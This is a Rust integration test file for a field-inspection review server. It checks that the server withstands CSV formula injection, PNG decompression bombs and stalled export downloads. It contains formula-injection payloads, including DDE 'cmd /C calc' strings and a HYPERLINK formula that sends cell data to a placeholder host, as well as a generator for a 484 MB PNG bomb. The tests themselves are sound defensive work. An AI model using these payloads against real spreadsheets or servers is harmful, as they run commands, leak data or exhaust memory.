//! The supervisors' review pages against hostile users (issue 17, findings
//! 5, 6 and 7b): text that would be a formula in a spreadsheet, a photo that
//! inflates to hundreds of megabytes, and downloads that are opened and then
//! never read. Real server, real HTTP, loopback only.

use std::collections::BTreeSet;
use std::io::Write;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use beatbook_schema::form::FormDef;
use beatbook_schema::ids::RecordId;
use beatbook_schema::protocol::{Change, ChangeOutcome, Cursor};
use beatbook_schema::record::AttachmentRef;
use beatbook_tests::browser::{csv_rows, Browser};
use beatbook_tests::data::obj;
use beatbook_tests::device::with_attachments;
use beatbook_tests::process::{free_addr, seed, Org, ServerProcess};
use beatbook_tests::{metrics, TestDevice, TestServer, PASSWORD};
use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
use chrono::{FixedOffset, TimeZone, Utc};
use flate2::write::ZlibEncoder;
use flate2::{Compression, Crc};
use reqwest::{Method, StatusCode};
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::timeout;

/// A real JPEG (the demo's hazard scene).
const JPEG: &[u8] = include_bytes!("../../demo/assets/hazard.jpg");

/// Text a spreadsheet would run as a formula, one for each character that starts one.
const FORMULAS: &[&str] = &[
    r#"=HYPERLINK("http://x.invalid/?"&C2,"详情")"#,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

fn starts_a_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A form with numbers that may be negative, free text and a repeat group.
/// A test server with the numeric `reading` form published.
async fn server_with_reading_form() -> TestServer {
    let server = TestServer::start().await;
    server
        .state
        .publish_form(&reading_form())
        .await
        .expect("form publishes");
    server
}

fn reading_form() -> FormDef {
    serde_json::from_value(json!({
        "form_id": "reading", "version": 1,
        "title": {"zh": "读数", "en": "Readings"},
        "sections": [{"id": "main", "title": {"zh": "读数", "en": "Readings"}, "fields": [
            {"name": "note", "label": {"zh": "说明", "en": "Note"},
             "kind": {"type": "text", "multiline": true}},
            {"name": "delta", "label": {"zh": "变化量", "en": "Change"}, "kind": {"type": "decimal"}},
            {"name": "count", "label": {"zh": "差额", "en": "Difference"}, "kind": {"type": "integer"}},
            {"name": "entries", "label": {"zh": "明细", "en": "Entries"}, "kind": {"type": "repeat", "fields": [
                {"name": "label", "label": {"zh": "名称", "en": "Label"}, "kind": {"type": "text"}},
                {"name": "value", "label": {"zh": "数值", "en": "Value"}, "kind": {"type": "decimal"}}
            ]}}
        ]}]
    }))
    .expect("a form definition")
}

fn local_today() -> String {
    Utc::now()
        .with_timezone(&FixedOffset::east_opt(8 * 3600).expect("offset"))
        .date_naive()
        .to_string()
}

/// An open hazard in G1 with these photos.
fn hazard(
    device: &TestDevice,
    description: &str,
    responsible: &str,
    photos: &[AttachmentRef],
) -> Change {
    let today = local_today();
    let hashes: Vec<String> = photos.iter().map(|p| p.sha256.to_hex()).collect();
    let values = obj(json!({
        "category": "ebike_charging", "description": description, "severity": "high",
        "found_date": today, "location": {"lat": 31.871, "lon": 121.172},
        "photos": hashes, "status": "open", "responsible_party": responsible,
    }));
    with_attachments(
        device.upsert(RecordId::new_v7(), "hazard", "G1", 0, values),
        photos.to_vec(),
    )
}

async fn push_all(device: &TestDevice, changes: Vec<Change>) {
    let res = device.push(changes).await.expect("push");
    for r in &res.results {
        assert!(
            matches!(r.outcome, ChangeOutcome::Accepted { .. }),
            "{:?}",
            r.outcome
        );
    }
}

fn column(rows: &[Vec<String>], header: &str) -> Vec<String> {
    let at = rows[0]
        .iter()
        .position(|h| h == header)
        .unwrap_or_else(|| panic!("{header} in {:?}", rows[0]));
    rows[1..].iter().map(|r| r[at].clone()).collect()
}

async fn download(b: &Browser, path: &str) -> Vec<u8> {
    let (status, _, bytes) = b.get_bytes(path).await;
    assert_eq!(status, StatusCode::OK, "{path}");
    bytes
}

// ---- finding 5: formulas in exports ----

#[tokio::test]
async fn exported_text_is_never_a_formula_and_numbers_stay_numbers() {
    let server = server_with_reading_form().await;
    let a1 = server.device("a1").await;
    let photo = a1.upload(JPEG, "image/jpeg").await;
    let hazards = FORMULAS
        .iter()
        .map(|f| hazard(&a1, f, f, std::slice::from_ref(&photo)))
        .collect();
    push_all(&a1, hazards).await;
    let o1 = server.device("o1").await;
    let values = obj(json!({
        "note": "-5 比上月少", "delta": -3.5, "count": -12,
        "entries": [{"label": "=1+2", "value": -0.25}, {"label": "@A1", "value": 4}],
    }));
    push_all(
        &o1,
        vec![o1.upsert(RecordId::new_v7(), "reading", "G1", 0, values)],
    )
    .await;
    let s1 = Browser::signed_in(&server, "s1").await;

    // CSV: every text cell of every export is safe, and says what was typed after its `'`.
    let hazards = csv_rows(&download(&s1, "/review/exports/download?form=hazard&format=csv").await);
    let readings =
        csv_rows(&download(&s1, "/review/exports/download?form=reading&format=csv").await);
    let entries = csv_rows(
        &download(
            &s1,
            "/review/exports/download?form=reading&format=csv&part=reading:entries",
        )
        .await,
    );
    for (name, rows) in [
        ("hazards", &hazards),
        ("readings", &readings),
        ("entries", &entries),
    ] {
        for cell in rows.iter().flatten() {
            let is_number = cell.parse::<f64>().is_ok();
            assert!(
                !starts_a_formula(cell) || is_number,
                "{name}: {cell:?} starts a formula"
            );
        }
    }
    assert_eq!(hazards.len(), 1 + FORMULAS.len());
    // Text is stored trimmed (so "\t=1+1" arrives as "=1+1"), and exported
    // after a `'`.
    let mut typed: Vec<String> = FORMULAS.iter().map(|f| format!("'{}", f.trim())).collect();
    typed.sort();
    for header in ["隐患描述", "责任人/责任单位"] {
        let mut cells = column(&hazards, header);
        cells.sort();
        assert_eq!(cells, typed, "{header}");
    }
    // Numbers of numeric fields are numbers, negative ones included.
    assert_eq!(column(&readings, "变化量"), ["-3.5"]);
    assert_eq!(column(&readings, "差额"), ["-12"]);
    assert_eq!(column(&readings, "说明"), ["'-5 比上月少"]);
    assert_eq!(column(&entries, "名称"), ["'=1+2", "'@A1"]);
    assert_eq!(column(&entries, "数值"), ["-0.25", "4"]);

    // XLSX: the same text in string cells, as typed, and not a formula anywhere.
    let bytes = download(&s1, "/review/exports/download?form=hazard&format=xlsx").await;
    let mut book: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(bytes)).expect("opens");
    let sheet = book.worksheet_range("安全隐患").expect("records sheet");
    let header: Vec<String> = sheet
        .rows()
        .next()
        .expect("a header")
        .iter()
        .map(|c| c.to_string())
        .collect();
    let at = header
        .iter()
        .position(|h| h == "隐患描述")
        .expect("description");
    let cells: Vec<&Data> = sheet.rows().skip(1).map(|r| &r[at]).collect();
    assert_eq!(cells.len(), FORMULAS.len());
    for cell in &cells {
        assert!(matches!(cell, Data::String(_)), "a string cell: {cell:?}");
    }
    for f in &FORMULAS[..4] {
        assert!(
            cells.contains(&&Data::String((*f).to_owned())),
            "{f} as typed"
        );
    }
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).expect("formulas");
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "no formula in sheet {name}"
        );
    }
    let bytes = download(&s1, "/review/exports/download?form=reading&format=xlsx").await;
    let mut book: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(bytes)).expect("opens");
    let sheet = book.worksheet_range("读数").expect("records sheet");
    let row: Vec<&Data> = sheet.rows().nth(1).expect("the reading").iter().collect();
    assert!(row.contains(&&Data::Float(-3.5)) && row.contains(&&Data::Float(-12.0)));
    assert!(row.contains(&&Data::String("-5 比上月少".to_owned())));
}

// ---- finding 6: decompression bombs as photos ----

/// A PNG of `width`×`height` grey pixels, one bit each and all alike, made
/// row by row and never held decoded: its data shrinks to about 120 bytes a
/// megapixel, and a decoder expands it to a byte a pixel. When not `whole`,
/// the pixel data stops half way (chunks and checksums stay valid).
fn grey_png(width: u32, height: u32, whole: bool) -> Vec<u8> {
    let row = vec![0u8; 1 + (width as usize).div_ceil(8)];
    let mut z = ZlibEncoder::new(Vec::new(), Compression::default());
    for _ in 0..height {
        z.write_all(&row).expect("compress");
    }
    let mut data = z.finish().expect("compress");
    if !whole {
        data.truncate(data.len() / 2);
    }
    let mut header = Vec::new();
    header.extend(width.to_be_bytes());
    header.extend(height.to_be_bytes());
    header.extend([1, 0, 0, 0, 0]); // 1 bit, grey, deflate, no filter method, no interlace
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    for (kind, body) in [(b"IHDR", header), (b"IDAT", data), (b"IEND", Vec::new())] {
        let mut crc = Crc::new();
        crc.update(kind);
        crc.update(&body);
        png.extend((body.len() as u32).to_be_bytes());
        png.extend(kind);
        png.extend(&body);
        png.extend(crc.sum().to_be_bytes());
    }
    png
}

/// A counter's value in a Prometheus text page (`name` with its labels, if any).
#[tokio::test]
async fn a_png_bomb_costs_a_header_read_not_a_decode() {
    let dir = tempfile::tempdir().expect("temp dir");
    seed(dir.path(), &Org::standard(), &[]).await;
    let server = ServerProcess::start(dir.path(), free_addr()).await;
    let a1 = TestDevice::enroll(&server.url, "a1", PASSWORD)
        .await
        .expect("enrolls");
    // 22000×22000 is 484 MB decoded: under the image crate's own default
    // allocation limit (512 MiB), so before the pixel budget it was decoded.
    let bomb = grey_png(22_000, 22_000, true);
    // 9 megapixels, within the budget, but its pixel data stops half way.
    let broken = grey_png(3_000, 3_000, false);
    println!(
        "bomb: {} bytes for 22000×22000; broken: {} bytes",
        bomb.len(),
        broken.len()
    );
    let photos = vec![
        a1.upload(&bomb, "image/png").await,
        a1.upload(&broken, "image/png").await,
    ];
    push_all(&a1, vec![hazard(&a1, "楼道堆放杂物", "物业", &photos)]).await;
    let s1 = Browser::signed_in_at(&server.url, "s1").await;

    let before = server.rss();
    let reset = server.reset_peak();
    let mut slowest = Duration::ZERO;
    for (photo, says) in [
        (photos[0].sha256, "照片尺寸异常（22000×22000 像素）"),
        (photos[1].sha256, "不是可识别的 JPEG 或 PNG 图片"),
    ] {
        for i in 0..10 {
            let started = Instant::now();
            let (status, _, body) = s1.get_bytes(&format!("/review/photos/{photo}/thumb")).await;
            let took = started.elapsed();
            slowest = slowest.max(took);
            assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "request {i}");
            assert!(String::from_utf8_lossy(&body).contains(says), "request {i}");
            assert!(took < Duration::from_secs(1), "request {i} took {took:?}");
        }
    }
    let peak = server.peak_rss();
    let grew = peak.saturating_sub(before);
    println!(
        "20 refused thumbnails: RSS before {} MB, peak {} MB (peak reset: {reset}), grew {} MB; slowest answer {slowest:?}",
        before >> 20,
        peak >> 20,
        grew >> 20
    );
    assert!(grew < 50 << 20, "the server grew by {} MB", grew >> 20);

    let page = metrics::page(&server.url).await;
    assert_eq!(
        metrics::value(&page, "beatbook_thumbnail_decodes_total"),
        Some(1.0),
        "the bomb was never decoded, the broken photo once"
    );
    for reason in ["too_large", "unreadable"] {
        assert_eq!(
            metrics::value(
                &page,
                &format!("beatbook_thumbnails_refused_total{{reason=\"{reason}\"}}")
            ),
            Some(10.0),
            "{reason}"
        );
    }

    // The full-size photo is the stored bytes, never decoded by the server.
    let (status, headers, bytes) = s1
        .get_bytes(&format!("/review/photos/{}", photos[0].sha256))
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(headers["content-type"], "image/png");
    assert!(bytes == bomb);
    let grew = server.peak_rss().saturating_sub(before);
    assert!(grew < 50 << 20, "the server grew by {} MB", grew >> 20);
}

// ---- finding 7b: exports that wait on a client ----

/// Starts a download on a connection with a small receive buffer, reads
/// its response head, and hands back the connection (and what was read);
/// the caller then stops reading.
async fn stalled_download(addr: SocketAddr, cookie: &str, path: &str) -> (TcpStream, Vec<u8>) {
    let socket = TcpSocket::new_v4().expect("socket");
    socket.set_recv_buffer_size(4096).expect("receive buffer");
    let mut conn = socket.connect(addr).await.expect("connect");
    let request = format!(
        "GET {path} HTTP/1.1\r\nHost: {addr}\r\nCookie: {cookie}\r\nConnection: close\r\n\r\n"
    );
    conn.write_all(request.as_bytes()).await.expect("request");
    let mut got = Vec::new();
    let mut buf = [0u8; 1024];
    while !got.windows(4).any(|w| w == b"\r\n\r\n") {
        let n = conn.read(&mut buf).await.expect("read");
        assert!(n > 0, "closed before the response head");
        got.extend_from_slice(&buf[..n]);
    }
    assert!(
        got.starts_with(b"HTTP/1.1 200"),
        "{}",
        String::from_utf8_lossy(&got)
    );
    (conn, got)
}

/// The body of a whole chunked HTTP/1.1 response.
fn dechunked(response: &[u8]) -> Vec<u8> {
    let head = response
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .expect("a head");
    let mut rest = &response[head + 4..];
    let mut body = Vec::new();
    loop {
        let line = rest
            .windows(2)
            .position(|w| w == b"\r\n")
            .expect("a chunk size");
        let size = std::str::from_utf8(&rest[..line]).expect("ascii");
        let size = usize::from_str_radix(size.trim(), 16).expect("a hex chunk size");
        rest = &rest[line + 2..];
        if size == 0 {
            return body;
        }
        body.extend_from_slice(&rest[..size]);
        rest = &rest[size + 2..];
    }
}

/// The note of every bulky reading.
fn bulky_note() -> String {
    "隐患巡查记录".chars().cycle().take(100_000 / 3).collect()
}

/// 120 readings of 100 KB: a 12 MB CSV, more than the body channel, the
/// socket buffers and everything between can hold, so a client that stops
/// reading leaves its export waiting on it.
async fn bulky_readings(server: &TestServer) {
    server
        .state
        .publish_form(&reading_form())
        .await
        .expect("form publishes");
    let o1 = server.device("o1").await;
    let note = bulky_note();
    for _ in 0..4 {
        let changes = (0..30)
            .map(|_| {
                let values = obj(json!({"note": note, "delta": 1.5, "count": 2}));
                o1.upsert(RecordId::new_v7(), "reading", "G1", 0, values)
            })
            .collect();
        push_all(&o1, changes).await;
    }
}

const BULKY_CSV: &str = "/review/exports/download?form=reading&format=csv";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_export_downloads_leave_token_checks_and_pulls_answering() {
    let server = TestServer::start().await;
    bulky_readings(&server).await;
    let o2 = server.device("o2").await;
    let s1 = Browser::signed_in(&server, "s1").await;
    let path = BULKY_CSV;

    // Six downloads (more than the store's four readers), opened and left unread.
    let mut stalled = Vec::new();
    for i in 0..6 {
        let opened = timeout(
            Duration::from_secs(5),
            stalled_download(server.addr, &s1.cookie_header(), path),
        )
        .await;
        stalled.push(opened.unwrap_or_else(|_| {
            panic!("download {i} got no answer within 5 s: the earlier ones hold the readers")
        }));
    }
    tokio::time::sleep(Duration::from_millis(500)).await;

    let mut slowest = Duration::ZERO;
    for round in 0..5 {
        let started = Instant::now();
        let me = timeout(
            Duration::from_secs(1),
            o2.request(Method::GET, "/v1/me").send(),
        )
        .await
        .unwrap_or_else(|_| panic!("round {round}: GET /v1/me took over a second"))
        .expect("GET /v1/me");
        assert_eq!(me.status(), StatusCode::OK);
        let page = timeout(Duration::from_secs(1), o2.pull_page(Cursor(0), 100))
            .await
            .unwrap_or_else(|_| panic!("round {round}: a pull took over a second"))
            .expect("pull");
        assert!(!page.items.is_empty(), "forms at least");
        slowest = slowest.max(started.elapsed());
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    println!("6 stalled exports: slowest /v1/me + pull round {slowest:?}");

    // A stalled download goes on when its client reads again, and is whole.
    let (mut conn, mut response) = stalled.pop().expect("a download");
    timeout(Duration::from_secs(60), conn.read_to_end(&mut response))
        .await
        .expect("the rest within a minute")
        .expect("read");
    let rows = csv_rows(&dechunked(&response));
    assert_eq!(rows.len(), 1 + 120);
    let note = bulky_note();
    assert!(rows[1..].iter().all(|r| r.contains(&note)));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exports_beyond_the_cap_are_refused_and_a_stalled_one_is_abandoned() {
    let server = TestServer::start_with(|c| {
        c.max_concurrent_exports = 2;
        c.export_stall_secs = 3;
    })
    .await;
    bulky_readings(&server).await;
    let s1 = Browser::signed_in(&server, "s1").await;
    let mut stalled = Vec::new();
    for _ in 0..2 {
        stalled.push(stalled_download(server.addr, &s1.cookie_header(), BULKY_CSV).await);
    }
    let busy = s1.get(BULKY_CSV).await;
    assert_eq!(busy.status, StatusCode::SERVICE_UNAVAILABLE);
    assert!(busy.body.contains("服务器正忙于其他导出"), "{}", busy.body);

    // Seconds after their clients stopped reading, the exports give up their turns.
    let started = Instant::now();
    let rows = loop {
        let (status, _, bytes) = s1.get_bytes(BULKY_CSV).await;
        if status == StatusCode::OK {
            break csv_rows(&bytes);
        }
        assert!(
            started.elapsed() < Duration::from_secs(10),
            "still refused: {status}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    println!("a turn came free after {:?}", started.elapsed());
    assert_eq!(rows.len(), 1 + 120, "a whole export");
    // An abandoned download ends broken, never short: no last chunk.
    for (mut conn, mut response) in stalled {
        let read = timeout(Duration::from_secs(30), conn.read_to_end(&mut response))
            .await
            .expect("the connection ends");
        assert!(
            read.is_err() || !response.ends_with(b"\r\n0\r\n\r\n"),
            "an abandoned export looks complete"
        );
        assert!(response.len() < 12_000_000);
    }
}

#[tokio::test]
async fn an_export_of_many_pages_has_every_record_once_in_order() {
    let server = server_with_reading_form().await;
    let o1 = server.device("o1").await;
    // Every third record was created in June 2020, so the date filter leaves
    // out records in the middle of every page.
    let june = Utc
        .with_ymd_and_hms(2020, 6, 15, 4, 0, 0)
        .single()
        .expect("a time");
    let mut all = BTreeSet::new();
    let mut in_june = BTreeSet::new();
    let changes = (0..450)
        .map(|i| {
            let id = RecordId::new_v7();
            let mut c = o1.upsert(id, "reading", "G1", 0, obj(json!({"count": i})));
            all.insert(id.to_string());
            if i % 3 == 0 {
                c.at = june;
                in_june.insert(id.to_string());
            }
            c
        })
        .collect();
    push_all(&o1, changes).await;
    let s1 = Browser::signed_in(&server, "s1").await;

    let rows = csv_rows(&download(&s1, "/review/exports/download?form=reading&format=csv").await);
    let ids = column(&rows, "记录编号");
    assert_eq!(ids.len(), 450, "each record once");
    assert!(ids.windows(2).all(|w| w[0] < w[1]), "in order");
    assert_eq!(ids.into_iter().collect::<BTreeSet<_>>(), all);
    let rows = csv_rows(
        &download(
            &s1,
            "/review/exports/download?form=reading&format=csv&from=2020-06-01&to=2020-06-30",
        )
        .await,
    );
    assert_eq!(
        column(&rows, "记录编号")
            .into_iter()
            .collect::<BTreeSet<_>>(),
        in_june
    );
    assert_eq!(rows.len(), 1 + 150);
}
